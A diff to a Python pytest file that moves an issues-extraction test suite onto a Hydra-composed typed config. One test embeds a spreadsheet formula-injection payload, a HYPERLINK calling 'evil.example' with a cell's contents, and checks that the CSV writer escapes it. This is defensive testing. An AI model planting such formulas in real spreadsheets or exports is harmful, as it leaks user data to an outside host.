@@ -9,10 +9,20 @@ from typing import Any
 
 import pandas as pd
 import pytest
+from hydra import compose, initialize_config_module
 
 from experiments import issues
+from experiments.config import IssuesConfig, load
 
-CFG = {"judge": {}, "threshold": 0.7}
+
+def issues_config() -> IssuesConfig:
+    """The typed config `python -m experiments.issues matcher=judge judge.structured_output=false` runs."""
+    with initialize_config_module(config_module="conf", version_base="1.3"):
+        cfg = compose(config_name="issues", overrides=["matcher=judge", "judge.structured_output=false"])
+    return load(cfg, IssuesConfig)
+
+
+CFG = issues_config()
 
 
 def fake_verdicts(table: Mapping[tuple[str, str], bool | None]) -> Any:
@@ -52,7 +62,8 @@ def test_model_written_statements_reach_the_audit_csvs_as_text(monkeypatch: pyte
     ref = Candidate("h", "reference", "human review")
     insts = [Instance("p1", "cs", (), ref, (Candidate("m", "gen", "model review"),))]
     formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-    monkeypatch.setattr(inputs, "load_study_inputs", lambda cfg, with_mode=False: (None, insts, None))
+    found = inputs.StudyInputs(None, insts, Path("reviews.jsonl"))  # type: ignore[arg-type]
+    monkeypatch.setattr(inputs, "load_study_inputs", lambda cfg, with_mode=False: found)
     monkeypatch.setattr(judges, "make_judge", lambda cfg: types.SimpleNamespace(
         cache=types.SimpleNamespace(close=lambda: None)))
     monkeypatch.setattr(judges, "sampling_params", lambda cfg: {})
@@ -62,7 +73,7 @@ def test_model_written_statements_reach_the_audit_csvs_as_text(monkeypatch: pyte
 
     monkeypatch.setattr(issues, "extract_all", extract)
     monkeypatch.setattr(issues, "judge_decisions", fake_verdicts({}))
-    issues.run_issues({"matcher": "judge", "judge": {"structured_output": False}}, tmp_path)
+    issues.run_issues(CFG, tmp_path)
     weaknesses = pd.read_csv(tmp_path / "weaknesses.csv")
     assert "'" + formula in set(weaknesses["issue"]) and formula not in set(weaknesses["issue"])
     matches = pd.read_csv(tmp_path / "matches.csv")
